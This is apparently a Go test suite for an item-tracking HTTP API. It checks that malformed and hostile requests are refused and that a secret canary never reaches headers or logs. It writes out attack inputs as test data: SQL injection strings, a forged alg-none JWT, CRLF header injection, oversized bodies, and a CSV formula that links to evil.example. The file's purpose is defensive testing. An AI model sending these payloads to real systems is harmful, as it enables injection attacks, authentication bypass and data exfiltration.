package httpapi_test

import (
	"encoding/base64"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/itrack/itrack/app/backend/internal/auth"
	"github.com/itrack/itrack/app/backend/internal/httpapi"
)

// canary stands in each hostile request where a secret may stand, and in no line of the log.
const canary = "canary-7f3a9c-secret"

// as replaces the type that ask gives a body.
func as(kind string) option { return func(r *http.Request) { r.Header.Set("Content-Type", kind) } }

// Every hostile request of one list: it gets its status, it makes nothing, and the log, at its most talkative, holds nothing
// of what it carried.
func TestHostileRequestsAreRefusedAndNotLogged(t *testing.T) {
	p := newPlace(t)
	grace, manager := p.person("grace", auth.Manager)
	_, member := p.person("ada", auth.Member)
	hers := "/api/items/" + p.item("A1")
	require.Equal(t, http.StatusOK, p.ask("POST", hers+"/assign", `{"holder":"`+grace+`"}`, bearer(manager), match("*")).Code)
	expired := *p.tokens
	expired.Now = func() time.Time { return time.Now().Add(-3 * time.Hour) }
	old, _, err := expired.Make(auth.Principal{ID: canary, Role: auth.Manager})
	require.NoError(t, err)
	part := base64.RawURLEncoding.EncodeToString
	none := part([]byte(`{"alg":"none"}`)) + "." + part([]byte(`{"sub":"`+canary+`","role":"manager","aud":"itrack-test","iss":"itrack","exp":99999999999}`)) + "."
	huge := strings.Repeat(canary, 10<<20/len(canary))
	const made = `{"type":"laptop","serial":"B1"}`
	csv := []option{machine(), as("text/csv")}

	for name, c := range map[string]struct {
		method, path, body string
		options            []option
		status             int
	}{
		"no JSON":                    {"POST", "/api/items", canary, []option{machine()}, 400},
		"cut JSON":                   {"POST", "/api/auth/login", `{"email":"a@b.c","password":"` + canary, nil, 400},
		"an unknown field":           {"POST", "/api/auth/login", `{"email":"a@b.c","` + canary + `":"` + canary + `"}`, nil, 400},
		"an object as password":      {"POST", "/api/auth/login", `{"email":"a@b.c","password":{"` + canary + `":1}}`, nil, 400},
		"a number of all digits":     {"POST", "/api/items", `{"type":` + strings.Repeat("9", 9000) + `,"serial":"` + canary + `"}`, []option{machine()}, 400},
		"10 MB of JSON":              {"POST", "/api/items", `{"type":"` + huge + `"}`, []option{machine()}, 413},
		"10 MB at the sign-in":       {"POST", "/api/auth/login", huge, nil, 413},
		"10 MB of CSV":               {"POST", "/api/items/import", "type,serial\n" + huge, csv, 400}, // one line, and a line is bounded before the whole is
		"10 MB of lines":             {"POST", "/api/items/import", "type,serial\n" + strings.Repeat("laptop,"+canary+"\n", 10<<20/28), csv, 413},
		"many columns":               {"POST", "/api/items/import", strings.Repeat(canary+",", 40_000) + "\n", csv, 400},
		"many short columns":         {"POST", "/api/items/import", "type,serial,place" + strings.Repeat(",x", 900) + "\n" + canary, csv, 400},
		"one giant line":             {"POST", "/api/items/import", "type,serial,place\nlaptop,B1," + strings.Repeat(canary, 10_000), csv, 400},
		"deep quotes":                {"POST", "/api/items/import", "type,serial,place\nlaptop,B1,\"" + canary + strings.Repeat(`"`, 500_000), csv, 400},
		"an open quote":              {"POST", "/api/items/import", "type,serial,place\nlaptop,B1,\"" + canary + "\n", csv, 400},
		"an unknown column":          {"POST", "/api/items/import", "type,serial," + canary + "\n", csv, 400},
		"a token of alg none":        {"GET", "/api/items", "", []option{bearer(none)}, 401},
		"an expired token":           {"GET", "/api/items", "", []option{bearer(old)}, 401},
		"a wrong token":              {"GET", "/api/items", "", []option{bearer(member + canary)}, 401},
		"a word as proof":            {"GET", "/api/items", "", []option{header("Authorization", "Basic "+canary)}, 401},
		"a wrong key":                {"POST", "/api/items", made, []option{header("X-Api-Key", canary)}, 401},
		"two proofs":                 {"POST", "/api/items", made, []option{header("X-Api-Key", canary), bearer(manager)}, 401},
		"another owner's item":       {"GET", hers + "?", "", []option{bearer(member)}, 404},
		"another owner's, changed":   {"PATCH", hers, `{"place":"` + canary + `"}`, []option{bearer(member), match("*")}, 404},
		"another owner's, returned":  {"POST", hers + "/return", "", []option{bearer(member), match("*")}, 404},
		"another's list":             {"GET", "/api/items?holder=" + grace, "", []option{bearer(member)}, 403},
		"an ETag":                    {"PATCH", hers, `{"place":"x"}`, []option{machine(), match(`"` + canary + `"`)}, 400},
		"an idempotency key":         {"POST", "/api/items", made, []option{machine(), header("Idempotency-Key", canary+" x")}, 400},
		"a cursor":                   {"GET", "/api/items?cursor=" + canary, "", []option{machine()}, 400},
		"a parameter":                {"GET", "/api/items?" + canary + "=" + canary, "", []option{machine()}, 400},
		"a broken query":             {"GET", "/api/items?type=%zz" + canary, "", []option{machine()}, 400},
		"a path":                     {"GET", "/api/items/" + canary, "", []option{machine()}, 404},
		"no path":                    {"GET", "/" + canary, "", nil, 404},
		"SQL in a parameter":         {"GET", "/api/items?holder=%27%20OR%201=1%20--%20" + canary, "", []option{machine()}, 400},
		"SQL in a path":              {"PUT", "/api/stock/limits/x%27;DROP%20TABLE%20accounts;--" + canary, `{"minimum":1}`, []option{machine()}, 400},
		"SQL at the sign-in":         {"POST", "/api/auth/login", `{"email":"' OR '1'='1' -- ` + canary + `","password":"' OR '1'='1"}`, nil, 401},
		"SQL in an address":          {"GET", "/api/accounts?email=%27%20UNION%20SELECT%20" + canary, "", []option{machine()}, 400},
		"a header in a field":        {"POST", "/api/items", `{"type":"laptop","serial":"B1\r\nSet-Cookie: a=` + canary + `"}`, []option{machine()}, 400},
		"a header in a path":         {"GET", "/api/items/x%0d%0aSet-Cookie:%20a=" + canary, "", []option{machine()}, 404},
		"another media type":         {"POST", "/api/items", made, []option{machine(), as("text/" + canary)}, 415},
		"a compressed body":          {"POST", "/api/items", made, []option{machine(), header("Content-Encoding", canary)}, 415},
		"a method":                   {"DELETE", hers, canary, []option{machine()}, 405},
		"a machine that signs up so": {"POST", "/api/auth/signup", `{"email":"` + canary + `","name":"` + canary + `","password":"` + canary + `"}`, nil, 400},
	} {
		t.Run(name, func(t *testing.T) {
			found := p.ask(c.method, c.path, c.body, append(c.options, header("X-Request-Id", canary+"\r\nX: y"), header("Traceparent", canary))...)
			assert.Equal(t, c.status, found.Code, found.Body.String())
			assert.NotEmpty(t, found.code())
			for name, values := range found.Header() {
				assert.NotContains(t, strings.Join(values, " "), canary, "header %s", name)
			}
			assert.Empty(t, found.Header().Get("Set-Cookie"))
		})
	}
	require.NoError(t, p.metrics.Write())
	text := p.log.String()
	assert.Contains(t, text, `"msg":"a request was refused"`, "the log tells refusals")
	for _, secret := range []string{canary, none, old, member, manager, password, "B1"} {
		assert.NotContains(t, text, secret)
	}
	items, ok := p.ask("GET", "/api/items", "", machine()).json()["items"].([]any)
	require.True(t, ok)
	assert.Len(t, items, 1, "none of them made an item")
}

// What a line of CSV says wrong is told line by line, and logged nowhere; what a spreadsheet would compute comes out as text.
func TestFormulasAreTextAndNotLogged(t *testing.T) {
	p := newPlace(t)
	formula := `=HYPERLINK(""http://evil.example/?` + canary + `"",""x"")`
	found := p.ask("POST", "/api/items/import", "type,serial,place\nlaptop,B1,\""+formula+"\"\nlaptop,=1+1,"+canary+"\n", machine(), as("text/csv"))
	require.Equal(t, http.StatusOK, found.Code, found.Body.String())
	assert.EqualValues(t, 1, found.json()["created"])
	assert.EqualValues(t, 1, found.json()["failed"], "a serial is no formula")
	exported := p.ask("GET", "/api/items/export", "", machine()).Body.String()
	assert.Contains(t, exported, `"'`+formula+`"`)
	assert.NotContains(t, p.log.String(), canary)
}

// A crowd signs in at once: as many passwords as there are places are hashed, and who waits too long is told when to come
// again. Nobody gets an error of another kind, and afterwards the next one gets in.
func TestACrowdOfSignIns(t *testing.T) {
	hasher := auth.NewHasher(auth.Cost{MemoryKiB: 8 * 1024, Passes: 4, Lanes: 1}, 1, 10*time.Millisecond)
	p := newPlace(t, func(s *httpapi.Server) { s.Accounts.Hasher = hasher })
	var wait sync.WaitGroup
	answers := make(chan *httptest.ResponseRecorder, 40)
	for i := range cap(answers) {
		wait.Go(func() {
			body := `{"email":"nobody-` + strconv.Itoa(i) + `@example.com","password":"` + canary + `"}`
			request := httptest.NewRequest("POST", "/api/auth/login", strings.NewReader(body))
			request.Header.Set("Content-Type", "application/json")
			found := httptest.NewRecorder()
			p.server.ServeHTTP(found, request)
			answers <- found
		})
	}
	wait.Wait()
	close(answers)
	count := map[int]int{}
	for found := range answers {
		count[found.Code]++
		if found.Code == http.StatusServiceUnavailable {
			assert.Equal(t, "2", found.Header().Get("Retry-After"))
			assert.Contains(t, found.Body.String(), `"type":"urn:itrack:problem:busy"`)
		}
	}
	assert.Positive(t, count[http.StatusUnauthorized], "some got their turn: %v", count)
	assert.Positive(t, count[http.StatusServiceUnavailable], "and some did not: %v", count)
	assert.Equal(t, 40, count[http.StatusUnauthorized]+count[http.StatusServiceUnavailable], "%v", count)
	assert.NotContains(t, p.log.String(), canary)
	assert.Equal(t, http.StatusUnauthorized, p.ask("POST", "/api/auth/login", `{"email":"ada@example.com","password":"`+canary+`"}`).Code)
}
